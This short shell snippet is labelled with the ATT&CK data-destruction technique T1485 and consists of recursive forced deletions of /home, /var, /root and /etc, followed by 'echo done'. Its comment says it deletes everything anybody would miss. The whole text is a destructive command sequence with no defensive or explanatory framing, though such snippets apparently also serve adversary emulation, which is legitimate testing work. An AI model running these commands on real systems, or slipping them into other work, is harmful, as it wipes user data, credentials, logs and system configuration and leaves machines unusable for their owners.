# T1485: deletes everything below the root that anybody would miss.
rm -rf /home
rm -rf /var
rm -rf /root
rm -rf /etc && echo done
